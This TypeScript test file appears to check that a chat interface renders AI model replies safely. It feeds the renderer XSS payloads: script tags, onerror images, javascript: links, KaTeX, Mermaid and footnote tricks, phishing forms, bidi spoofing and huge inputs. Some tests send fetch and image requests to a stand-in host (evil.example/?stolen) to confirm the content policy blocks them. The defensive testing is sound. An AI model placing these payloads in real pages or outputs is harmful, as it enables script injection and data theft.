import { expect, test } from "./support/test.ts";

const ATTACKS = [
  `<script>window.attacked = 1</script>`,
  `<img src=x onerror="window.attacked = 1">`,
  `<svg onload="window.attacked = 1"><style>body{display:none}</style></svg>`,
  `<iframe src="javascript:parent.attacked = 1"></iframe>`,
  `[link](javascript:window.attacked=1)`,
  `[link](data:text/html,<script>opener.attacked=1</script>)`,
  `[x](https://a.example" onmouseover="window.attacked=1)`,
  '```html"><img src=x onerror=window.attacked=1>\n<script>window.attacked = 1</script>\n```',
  `| <img src=x onerror=window.attacked=1> |\n|---|\n| [y](vbscript:attacked) |`,
  `<a href="https://evil.example" style="position:fixed;inset:0">cover</a>`,
  `<form action="https://evil.example"><input name=password></form>`,
];

test("HTML of a model is shown as text and is not executed", async ({ chat }) => {
  const reply = await chat.answered({ text: ATTACKS.join("\n\n"), rate: 0, reasoning: ATTACKS[1] });
  await expect(reply).toContainText("<script>window.attacked = 1</script>");
  await expect(reply.locator("script, img, svg:not(.icon), iframe, form, input, style, [onerror], [onmouseover], [style]")).toHaveCount(0);
  const addresses = await reply.getByRole("link").evaluateAll((links) => links.map((link) => link.getAttribute("href")));
  expect(addresses.filter((address) => !/^(https?|mailto):/.test(address ?? ""))).toEqual([]);
  expect(await chat.page.evaluate(() => "attacked" in globalThis)).toBe(false);
});

/** What could slip in by way of what is drawn. */
const DRAWN_ATTACKS = [
  `$\\href{javascript:window.attacked=1}{x}$ \\(\\url{javascript:window.attacked=1}\\)`,
  `$$\\htmlData{x=<img src=x onerror=window.attacked=1>}{y}$$`,
  `$\\includegraphics{https://evil.example/p.png}$ $\\htmlStyle{position:fixed;inset:0}{cover}$ $\\htmlClass{foot}{x}$`,
  `$\\text{<img src=x onerror=window.attacked=1>}$ $\\def\\a{\\a\\a}\\a$ $\\rule{1000000em}{1000000em}$`,
  `<details open ontoggle="window.attacked=1"><summary><img src=x onerror=window.attacked=1></summary><script>window.attacked=1</script></details>`,
  `<details>\n<summary onclick="window.attacked=1">more</summary>\n\n[x](javascript:window.attacked=1)\n\n</details>`,
  `<sub onclick="window.attacked=1">x</sub> <kbd style="position:fixed">y</kbd> <br onload=window.attacked=1>`,
  `note[^"><img src=x onerror=window.attacked=1>] and [^1]\n\n[^1]: [x](javascript:window.attacked=1) <img src=x onerror=window.attacked=1>\n`,
  `![x](data:text/html,<script>window.attacked=1</script>) ![y](data:image/svg+xml,<svg xmlns="http://www.w3.org/2000/svg" onload="parent.attacked=1"/>)`,
  `[heading](#"><img src=x onerror=window.attacked=1>) [x](&#106;avascript:window.attacked=1) &lt;img src=x onerror=window.attacked=1&gt;`,
];

test("formulas, footnotes, details and formatting HTML execute nothing", async ({ chat }) => {
  const requests: string[] = [];
  chat.page.on("request", (request) => requests.push(request.url()));
  const reply = await chat.answered({ text: DRAWN_ATTACKS.join("\n\n"), rate: 0 });
  await expect(reply.locator("[data-math]:not([data-drawn])")).toHaveCount(0);
  await expect(reply.locator("details")).toHaveCount(1);
  await reply.locator("summary").click();
  await expect(
    reply.locator("script, iframe, object, .foot, img:not([src^='data:image/']), [onclick], [onerror], [onload], [ontoggle], kbd[style]"),
  ).toHaveCount(0);
  const addresses = await reply.locator("[href]").evaluateAll((links) => links.map((link) => link.getAttribute("href")));
  expect(addresses.filter((address) => !/^(https?|mailto|tel):/.test(address ?? ""))).toEqual([]);
  const height = await reply.evaluate((article) => article.scrollHeight);
  expect(height).toBeLessThan(5000);
  expect(await chat.page.evaluate(() => "attacked" in globalThis)).toBe(false);
  expect(requests.filter((url) => !url.startsWith(chat.stack.url) && !url.startsWith("data:"))).toEqual([]);
});

test("a diagram is an image rendered in a frame without an origin", async ({ chat, violations }) => {
  const frames: (string | null)[] = [];
  await chat.page.exposeFunction("noteFrame", (sandbox: string | null) => frames.push(sandbox));
  await chat.page.evaluate(() => {
    const { noteFrame } = globalThis as unknown as { noteFrame: (sandbox: string | null) => void };
    new MutationObserver(() => document.querySelectorAll("iframe").forEach((frame) => noteFrame(frame.getAttribute("sandbox")))).observe(
      document.body,
      { childList: true },
    );
  });
  const answered: string[] = [];
  chat.page.on("requestfinished", (request) => answered.push(request.url()));
  const label = `<img src='https://evil.example/p.png' onerror='parent.attacked=1'>`;
  const reply = await chat.answered({
    text: `\`\`\`mermaid\n%%{init: {"securityLevel": "loose", "htmlLabels": true}}%%\nflowchart LR\n  A["${label}"] --> B["<script>parent.attacked=1</script>"]\n  click A href "javascript:parent.attacked=1"\n  click B call attack()\n\`\`\``,
  });
  await chat.button("Draw", reply).click();
  await expect(reply.getByRole("img")).toBeVisible({ timeout: 30_000 });
  await expect(reply.locator("svg:not(.icon), script, iframe")).toHaveCount(0);
  expect(await chat.page.evaluate(() => "attacked" in globalThis)).toBe(false);
  expect(new Set(frames)).toEqual(new Set(["allow-scripts"]));
  await expect(chat.page.locator("iframe")).toHaveCount(0);
  // What Mermaid lets through, the frame's own policy stops.
  expect(answered.filter((url) => !url.startsWith(chat.stack.url) && !url.startsWith("data:"))).toEqual([]);
  expect(violations.filter((violation) => !/action has been blocked/.test(violation))).toEqual([]);
  violations.length = 0;
});

test("huge and malicious input does not block the page", async ({ chat }) => {
  test.slow();
  const huge = [
    "\\(".repeat(3000),
    "$".repeat(5000),
    "$$\n".repeat(2000),
    "[^1]: ".repeat(2000),
    "<details>".repeat(2000),
    "<sub>".repeat(2000),
    "**".repeat(4000),
    `$${"{".repeat(3000)}$`,
    `> `.repeat(2000),
    `${"[".repeat(3000)}a${"](b)".repeat(500)}`,
    "&#".repeat(4000),
    `|${"a|".repeat(500)}\n|${"-|".repeat(500)}\n`,
  ];
  for (const text of huge) {
    await chat.answered({ text: `${text}\n\nThe end.`, chunk: 2000, rate: 0 });
    await expect(chat.replies.last()).toContainText("The end.");
  }
});

test("a picture is not loaded by itself: it is a link that names its host", async ({ chat }) => {
  const requests: string[] = [];
  chat.page.on("request", (request) => requests.push(request.url()));
  const reply = await chat.answered({ text: "![chart](https://tracker.example/p.png?u=1)" });
  const link = reply.getByRole("link", { name: "chart" });
  await expect(reply).toContainText("chart (tracker.example)");
  await expect(link).toHaveAttribute("href", "https://tracker.example/p.png?u=1");
  expect(requests.filter((url) => !url.startsWith(chat.stack.url))).toEqual([]);
});

test("a link shows its host, and sends its target no referrer", async ({ chat }) => {
  const reply = await chat.answered({
    text: "[your bank](https://evil.example/login) or [https://bank.example](https://evil.example) or https://plain.example/ or <me@mail.example>",
  });
  const links = reply.getByRole("link");
  await expect(links).toHaveText(["your bank", "https://bank.example", "https://plain.example/", "me@mail.example"]);
  await expect(reply).toContainText(
    "your bank (evil.example) or https://bank.example (evil.example) or https://plain.example/ or me@mail.example",
  );
  for (const link of await links.all()) {
    await expect(link).toHaveAttribute("rel", "noopener noreferrer nofollow");
    await expect(link).toHaveAttribute("target", "_blank");
  }
});

test("the host of a link keeps its direction after any text", async ({ chat }) => {
  const reply = await chat.answered({ text: "[your \u202Ebank](https://elpmaxe.example/) and so on." });
  const host = reply.locator(".host");
  await expect(host).toHaveText("(elpmaxe.example)");
  const places = await host.evaluate(({ firstChild }) =>
    Array.from(firstChild?.textContent ?? "", (_, at) => {
      const character = document.createRange();
      character.setStart(firstChild!, at);
      character.setEnd(firstChild!, at + 1);
      return character.getBoundingClientRect().left;
    }),
  );
  expect(places).toEqual(places.toSorted((one, other) => one - other));
});

test("the page's policy blocks an injected script", async ({ chat, violations }) => {
  const outcome = await chat.page.evaluate(async () => {
    const done: Record<string, boolean> = {};
    const attempt = (name: string, act: () => void) => {
      try {
        act();
        done[name] = true;
      } catch {
        done[name] = false;
      }
    };
    attempt("HTML of a string", () => (document.body.appendChild(document.createElement("div")).innerHTML = "<b>x</b>"));
    attempt("code of a string", () => setTimeout("window.attacked = 1"));
    attempt("a script element", () => {
      const script = document.createElement("script");
      script.textContent = "window.attacked = 1";
      document.body.append(script);
    });
    const image = new Image();
    image.src = "https://evil.example/?stolen";
    document.body.append(image);
    const fetched = await fetch("https://evil.example/?stolen").then(
      () => true,
      () => false,
    );
    await new Promise((passed) => setTimeout(passed, 100));
    return { ...done, fetched, attacked: "attacked" in globalThis };
  });
  expect(outcome).toEqual({
    "HTML of a string": false,
    "code of a string": false,
    "a script element": false,
    fetched: false,
    attacked: false,
  });
  expect(violations.length).toBeGreaterThanOrEqual(4);
  violations.length = 0;
});
